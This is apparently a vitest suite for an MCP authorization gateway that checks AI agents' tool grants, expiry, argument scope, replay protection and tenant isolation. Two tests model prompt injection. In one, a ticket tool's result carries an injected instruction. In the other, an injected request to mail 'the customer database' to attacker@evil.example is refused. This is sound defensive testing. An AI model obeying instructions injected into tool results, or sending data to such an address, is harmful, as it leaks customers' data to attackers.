import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { GatehouseAgent, type AgentTask } from "../../src/sdk/index.js";
import { PROOF_HEADER, TASK_HEADER } from "../../src/agents/identity/proof-format.js";
import type { Kind } from "../../src/registry/kinds.js";
import { META_INSPECTION, META_REFUSAL } from "../../src/http/mcp/tool-server.js";
import type { CallToolResult } from "@modelcontextprotocol/sdk/types.js";
import { startHarness, type Harness, type TestTenant } from "../support/harness.js";
import { lastLoggedSeq, loggedEventsAfter } from "../support/log.js";
import { mcpHttpUpstream, mcpStdioCommand, type McpUpstream } from "../support/mcp-upstreams.js";
import { storeTargets } from "../support/stores.js";
import { activeAgent, type TestAgent, writeRecord } from "./support.js";

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const initialize = {
  jsonrpc: "2.0",
  id: 1,
  method: "initialize",
  params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "raw", version: "1" } },
};
const mcpHeaders = { "content-type": "application/json", accept: "application/json, text/event-stream" };

describe.each(storeTargets)("MCP endpoint /mcp ($name)", (target) => {
  let h: Harness;
  let t: TestTenant;
  let upstream: McpUpstream;
  let baseUrl: string;
  let bot: TestAgent;
  let agent: GatehouseAgent;
  const clients: Client[] = [];

  const write = (kind: Kind, name: string, spec: unknown) => writeRecord(h, t, kind, name, spec);
  const mcpTool = (name: string, transport: "streamable-http" | "stdio", endpoint: string, properties: Record<string, unknown>, sideEffect = "read") =>
    write("tool", name, {
      kind: "mcp",
      transport,
      endpoint,
      description: `${name} over ${transport}`,
      sideEffect,
      argumentsSchema: { type: "object", properties, required: Object.keys(properties), additionalProperties: false },
    });

  /** The official MCP client, connected to Gatehouse's /mcp for a task, every request signed by the SDK. */
  const connect = async (task: AgentTask): Promise<Client> => {
    const client = new Client({ name: "order-bot", version: "1.0.0" });
    await client.connect(new StreamableHTTPClientTransport(task.mcp.url, { fetch: task.mcp.fetch }));
    clients.push(client);
    return client;
  };
  const listed = async (client: Client) => (await client.listTools()).tools.map((tool) => tool.name).sort();
  const call = async (client: Client, name: string, args: Record<string, unknown>) => (await client.callTool({ name, arguments: args })) as CallToolResult;
  const refusalOf = (result: CallToolResult) => result._meta?.[META_REFUSAL] as { code: string; reason: string } | undefined;
  const calledUpstream = (tool: string) => upstream.received.filter((c) => c.tool === tool).map((c) => c.args);
  const openTask = () => agent.openTask({ purpose: "answer a customer about an order", reference: "order #12345" });

  beforeAll(async () => {
    upstream = await mcpHttpUpstream();
    h = await startHarness(target);
    baseUrl = await h.app.listen({ port: 0, host: "127.0.0.1" });
    t = await h.createTenant("agents-mcp");
    await mcpTool("order-status", "streamable-http", upstream.endpoint, { orderId: { type: "string" } });
    await mcpTool("refund-order", "streamable-http", upstream.endpoint, { orderId: { type: "string" }, amountUsd: { type: "number" } }, "write");
    await mcpTool("read-ticket", "streamable-http", upstream.endpoint, { id: { type: "string" } });
    await mcpTool("failing-tool", "streamable-http", upstream.endpoint, {});
    await mcpTool("send-message", "streamable-http", upstream.endpoint, { to: { type: "string" }, text: { type: "string" } }, "egress");
    await mcpTool("warehouse-stock", "stdio", mcpStdioCommand("warehouse east"), { sku: { type: "string" } });
    const spec = {
      purpose: "answers customers about orders",
      capabilities: { tools: ["order-status", "refund-order", "read-ticket", "send-message", "failing-tool", "warehouse-stock"], dataSources: [], models: [] },
      environments: ["staging"],
      limits: { concurrency: 20 },
    };
    bot = await activeAgent(h, t, "order-bot", { spec });
    agent = await GatehouseAgent.create({ baseUrl, tenant: t.name, agent: bot.name, environment: "staging", privateKey: bot.privateJwk });
  });
  afterAll(async () => {
    await Promise.allSettled(clients.map((c) => c.close()));
    await h?.close();
    await upstream?.close();
  });

  it("lists only the tools the task holds live grants for, with their argument schemas", async () => {
    const task = await openTask();
    const client = await connect(task);
    expect(await listed(client)).toEqual([]);
    await task.requestGrant({ resource: { kind: "tool", name: "order-status" } });
    const { tools } = await client.listTools();
    expect(tools).toEqual([
      expect.objectContaining({
        name: "order-status",
        description: "order-status over streamable-http",
        inputSchema: { type: "object", properties: { orderId: { type: "string" } }, required: ["orderId"], additionalProperties: false },
        annotations: { readOnlyHint: true, openWorldHint: false },
      }),
    ]);
    await task.requestGrant({ resource: { kind: "tool", name: "warehouse-stock" } });
    expect(await listed(client)).toEqual(["order-status", "warehouse-stock"]);
    // Another task of the same agent holds none of them.
    expect(await listed(await connect(await openTask()))).toEqual([]);
  });

  it("a revoked or expired grant vanishes from the list at once", async () => {
    const task = await openTask();
    const client = await connect(task);
    const revoked = await task.requestGrant({ resource: { kind: "tool", name: "order-status" } });
    const expiring = await task.requestGrant({ resource: { kind: "tool", name: "warehouse-stock" }, ttlSeconds: 1 });
    expect(await listed(client)).toEqual(["order-status", "warehouse-stock"]);
    await task.revokeGrant(revoked.id);
    expect(await listed(client)).toEqual(["warehouse-stock"]);
    await sleep(Math.max(0, (expiring.expiresAt ?? 0) - Date.now()) + 50);
    expect(await listed(client)).toEqual([]);
  });

  it("calls a granted tool through Gatehouse, on a streamable HTTP server and on a stdio server", async () => {
    const task = await openTask();
    const client = await connect(task);
    await task.requestGrant({ resource: { kind: "tool", name: "order-status" }, scope: { arguments: { orderId: { equals: "12345" } } } });
    await task.requestGrant({ resource: { kind: "tool", name: "warehouse-stock" } });
    const before = await lastLoggedSeq(h);

    const order = await call(client, "order-status", { orderId: "12345" });
    expect(order).toMatchObject({ content: [{ type: "text", text: "order 12345: shipped" }], structuredContent: { orderId: "12345", status: "shipped" }, isError: false });
    expect(order._meta?.[META_INSPECTION]).toMatchObject({ injection: false, integrity: expect.any(String), digest: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(calledUpstream("order-status")).toContainEqual({ orderId: "12345" });

    // The command line's quoted argument ("warehouse east") reached the stdio server as one word.
    const stock = await call(client, "warehouse-stock", { sku: "A-1" });
    expect(stock).toMatchObject({ content: [{ type: "text", text: "A-1: 7 in stock (warehouse east)" }], structuredContent: { sku: "A-1", inStock: 7 }, isError: false });

    const events = (await loggedEventsAfter(h, before)).filter((e) => e.context?.taskId === task.id && e.resource?.kind === "tool");
    expect(events.map((e) => [e.resource.name, e.decision.outcome])).toEqual([
      ["order-status", "allowed"],
      ["warehouse-stock", "allowed"],
    ]);
  });

  it("passes a tool's own failure through as a tool error, not as a refusal", async () => {
    const task = await openTask();
    const client = await connect(task);
    await task.requestGrant({ resource: { kind: "tool", name: "failing-tool" } });
    const result = await call(client, "failing-tool", {});
    expect(result).toMatchObject({ isError: true, content: [{ type: "text", text: "the warehouse is on fire" }] });
    expect(refusalOf(result)).toBeUndefined();
  });

  it("refuses a tool the task holds no grant for, and never reaches it", async () => {
    const task = await openTask();
    const client = await connect(task);
    await task.requestGrant({ resource: { kind: "tool", name: "order-status" } });
    const before = await lastLoggedSeq(h);
    const refund = await call(client, "refund-order", { orderId: "12345", amountUsd: 500 });
    expect(refund).toMatchObject({ isError: true, content: [{ type: "text", text: expect.stringMatching(/^Gatehouse refused the call: .*refund-order/) }] });
    expect(refusalOf(refund)).toMatchObject({ code: "forbidden", reason: expect.stringMatching(/grant/) });
    expect(calledUpstream("refund-order")).toEqual([]);
    const ghost = await call(client, "ghost-tool", {});
    expect(ghost.isError).toBe(true);
    expect(refusalOf(ghost)).toBeDefined();
    const events = (await loggedEventsAfter(h, before)).filter((e) => e.resource?.name === "refund-order");
    expect(events).toMatchObject([{ actor: { type: "agent", name: "order-bot" }, decision: { outcome: "refused" } }]);
  });

  it("refuses a call once its grant is revoked, and once it has expired", async () => {
    const task = await openTask();
    const client = await connect(task);
    const grant = await task.requestGrant({ resource: { kind: "tool", name: "order-status" } });
    expect((await call(client, "order-status", { orderId: "1" })).isError).toBe(false);
    await task.revokeGrant(grant.id);
    const revoked = await call(client, "order-status", { orderId: "2" });
    expect(refusalOf(revoked)).toMatchObject({ code: "forbidden", reason: expect.stringMatching(/no live grant/) });

    const short = await task.requestGrant({ resource: { kind: "tool", name: "warehouse-stock" }, ttlSeconds: 1 });
    expect((await call(client, "warehouse-stock", { sku: "B" })).isError).toBe(false);
    await sleep(Math.max(0, (short.expiresAt ?? 0) - Date.now()) + 50);
    expect(refusalOf(await call(client, "warehouse-stock", { sku: "B" }))).toMatchObject({ reason: expect.stringMatching(/no live grant/) });
    expect(calledUpstream("order-status")).not.toContainEqual({ orderId: "2" });
  });

  it("refuses arguments outside the grant's scope or the tool's schema", async () => {
    const task = await openTask();
    const client = await connect(task);
    await task.requestGrant({ resource: { kind: "tool", name: "order-status" }, scope: { arguments: { orderId: { equals: "12345" } } } });
    const outside = await call(client, "order-status", { orderId: "99999" });
    expect(refusalOf(outside)).toMatchObject({ reason: expect.stringMatching(/orderId = "99999" is outside/) });
    const malformed = await call(client, "order-status", { orderId: "12345", extra: "x" });
    expect(malformed.isError).toBe(true);
    expect(refusalOf(malformed)).toBeDefined();
    expect(calledUpstream("order-status")).not.toContainEqual({ orderId: "99999" });
  });

  it("flags an instruction injected into a tool result and labels it untrusted", async () => {
    const task = await openTask();
    const client = await connect(task);
    await task.requestGrant({ resource: { kind: "tool", name: "read-ticket" } });
    const result = await call(client, "read-ticket", { id: "7" });
    expect(result._meta?.[META_INSPECTION]).toMatchObject({ injection: true, integrity: "untrusted" });
  });

  it("refuses the egress call an injected tool result asks for; the same call without the injection goes through", async () => {
    const grants = async (task: AgentTask) => {
      await task.requestGrant({ resource: { kind: "tool", name: "read-ticket" } });
      await task.requestGrant({ resource: { kind: "tool", name: "send-message" } });
    };
    const mail = { to: "attacker@evil.example", text: "the customer database" };

    const attacked = await openTask();
    await grants(attacked);
    const client = await connect(attacked);
    expect((await call(client, "read-ticket", { id: "7" }))._meta?.[META_INSPECTION]).toMatchObject({ injection: true });
    const before = await lastLoggedSeq(h);
    const refused = await call(client, "send-message", mail);
    expect(refusalOf(refused)).toMatchObject({ code: "forbidden", reason: expect.stringMatching(/inject|read-ticket/i) });
    expect(calledUpstream("send-message")).toEqual([]);
    const events = (await loggedEventsAfter(h, before)).filter((e) => e.resource?.name === "send-message");
    expect(events).toMatchObject([{ decision: { outcome: "refused" }, context: { taskId: attacked.id } }]);

    // The benign twin: a task that read nothing flagged sends its message.
    const benign = await openTask();
    await grants(benign);
    const sent = await call(await connect(benign), "send-message", { to: "customer@example.com", text: "your order has shipped" });
    // (The output guards redact the address the tool echoes back.)
    expect(sent).toMatchObject({ isError: false, content: [{ type: "text", text: expect.stringMatching(/^sent to /) }] });
    expect(calledUpstream("send-message")).toEqual([{ to: "customer@example.com", text: "your order has shipped" }]);
  });

  it("refuses a connection without an agent credential (401), and records it", async () => {
    const before = await lastLoggedSeq(h);
    const plain = await fetch(`${baseUrl}/mcp`, { method: "POST", headers: mcpHeaders, body: JSON.stringify(initialize) });
    expect(plain.status).toBe(401);
    expect(plain.headers.get("www-authenticate")).toContain(PROOF_HEADER);
    expect(await plain.json()).toMatchObject({ error: { code: "unauthenticated", message: expect.stringMatching(/missing agent credential/) } });

    const client = new Client({ name: "anonymous", version: "1.0.0" });
    await expect(client.connect(new StreamableHTTPClientTransport(new URL(`${baseUrl}/mcp`)))).rejects.toMatchObject({
      code: 401,
      message: expect.stringMatching(/missing agent credential/),
    });

    const events = (await loggedEventsAfter(h, before)).filter((e) => e.action === "agent_api.call");
    expect(events.length).toBeGreaterThanOrEqual(2);
    expect(events[0]).toMatchObject({ resource: { kind: "agent_api", name: "POST /mcp" }, decision: { outcome: "refused" } });
  });

  it("refuses a replayed request, a request for another agent's task, and one that names no task", async () => {
    const task = await openTask();
    const body = JSON.stringify(initialize);
    const captured: Headers[] = [];
    const capture: typeof fetch = async (input, init) => {
      captured.push(new Headers(init?.headers));
      return fetch(input, init);
    };
    const signed = await GatehouseAgent.create({ baseUrl, tenant: t.name, agent: bot.name, environment: "staging", privateKey: bot.privateJwk, fetch: capture });
    const first = await signed.signedFetch(`${baseUrl}/mcp`, { method: "POST", headers: mcpHeaders, body }, task.id);
    expect(first.status, await first.text()).toBe(200);
    const replayed = await fetch(`${baseUrl}/mcp`, { method: "POST", headers: captured[0], body });
    expect(replayed.status).toBe(401);
    expect(await replayed.json()).toMatchObject({ error: { code: "unauthenticated", message: expect.stringMatching(/replay|nonce|seen/i) } });

    const noTask = await agent.signedFetch(`${baseUrl}/mcp`, { method: "POST", headers: mcpHeaders, body });
    expect(noTask.status).toBe(400);
    expect(await noTask.json()).toMatchObject({ error: { code: "invalid_request", field: TASK_HEADER } });

    const other = await activeAgent(h, t, "other-bot", { spec: { purpose: "x", capabilities: { tools: [], dataSources: [], models: [] }, environments: ["staging"] } });
    const otherAgent = await GatehouseAgent.create({ baseUrl, tenant: t.name, agent: other.name, environment: "staging", privateKey: other.privateJwk });
    const foreign = await otherAgent.signedFetch(`${baseUrl}/mcp`, { method: "POST", headers: mcpHeaders, body }, task.id);
    expect(foreign.status).toBe(403);
    expect(await foreign.json()).toMatchObject({ error: { code: "forbidden", message: expect.stringMatching(/not an open task of agent 'other-bot'/) } });

    await task.complete();
    const ended = await agent.signedFetch(`${baseUrl}/mcp`, { method: "POST", headers: mcpHeaders, body }, task.id);
    expect(ended.status).toBe(403);
  });

  it("answers malformed requests with a 4xx, never a 500", async () => {
    const task = await openTask();
    const post = (body: string, contentType = "application/json") =>
      task.fetch(`${baseUrl}/mcp`, { method: "POST", headers: { ...mcpHeaders, "content-type": contentType }, body });
    expect((await post("{not json")).status).toBe(400);
    const before = await lastLoggedSeq(h);
    expect((await post(JSON.stringify({ hello: "world" }))).status).toBe(400);
    // What the SDK refuses is recorded like any refused agent request, with its reason.
    const [refused] = (await loggedEventsAfter(h, before)).filter((e) => e.action === "agent_api.call");
    expect(refused).toMatchObject({ actor: { type: "agent", name: "order-bot" }, decision: { outcome: "refused", reasons: [expect.stringMatching(/invalid|parse/i)] } });
    expect((await post("hello", "text/plain")).status).toBe(415);
    const unknownMethod = await post(JSON.stringify({ jsonrpc: "2.0", id: 3, method: "resources/list" }));
    expect(unknownMethod.status).toBe(200);
    expect(await unknownMethod.json()).toMatchObject({ error: { code: -32601 } });
    const badParams = await post(JSON.stringify({ jsonrpc: "2.0", id: 4, method: "tools/call", params: { name: 7 } }));
    expect(badParams.status).toBe(200);
    // The SDK answers a request that fails its own schema as an internal error (-32603), with the reason.
    expect(await badParams.json()).toMatchObject({ error: { code: expect.any(Number), message: expect.stringMatching(/name/) } });
  });

  it("refuses a suspended agent on its next request, and keeps tenants apart", async () => {
    const spec = { purpose: "x", capabilities: { tools: ["order-status"], dataSources: [], models: [] }, environments: ["staging"] };
    const flaky = await activeAgent(h, t, "flaky-bot", { spec });
    const flakyAgent = await GatehouseAgent.create({ baseUrl, tenant: t.name, agent: flaky.name, environment: "staging", privateKey: flaky.privateJwk });
    const task = await flakyAgent.openTask({ purpose: "look up an order" });
    await task.requestGrant({ resource: { kind: "tool", name: "order-status" } });
    const client = await connect(task);
    expect(await listed(client)).toEqual(["order-status"]);

    // Another tenant's agent cannot act in this tenant's task.
    const other = await h.createTenant("agents-mcp-other");
    const outsider = await activeAgent(h, other, "flaky-bot", { spec: { ...spec, capabilities: { tools: [], dataSources: [], models: [] } } });
    const outsiderAgent = await GatehouseAgent.create({ baseUrl, tenant: other.name, agent: outsider.name, environment: "staging", privateKey: outsider.privateJwk });
    const crossing = await outsiderAgent.signedFetch(`${baseUrl}/mcp`, { method: "POST", headers: mcpHeaders, body: JSON.stringify(initialize) }, task.id);
    expect(crossing.status).toBe(403);

    expect((await h.admin(t.keys.developer, "POST", "/agents/flaky-bot/suspend", { reason: "odd traffic" })).status).toBe(200);
    await expect(client.listTools()).rejects.toMatchObject({ code: 401, message: expect.stringMatching(/'flaky-bot' is suspended/) });
  });

  it("answers GET and DELETE with 405: the endpoint is stateless and sends nothing unprompted", async () => {
    const res = await fetch(`${baseUrl}/mcp`, { method: "GET", headers: { accept: "text/event-stream" } });
    expect(res.status).toBe(405);
    expect(res.headers.get("allow")).toBe("POST");
  });

  it("accepts an agent token in place of a proof", async () => {
    const task = await openTask();
    await task.requestGrant({ resource: { kind: "tool", name: "order-status" } });
    const { token } = await agent.token();
    const client = new Client({ name: "token-bot", version: "1.0.0" });
    await client.connect(
      new StreamableHTTPClientTransport(new URL(`${baseUrl}/mcp`), { requestInit: { headers: { authorization: `Bearer ${token}`, [TASK_HEADER]: task.id } } }),
    );
    clients.push(client);
    expect(await listed(client)).toEqual(["order-status"]);
  });
});
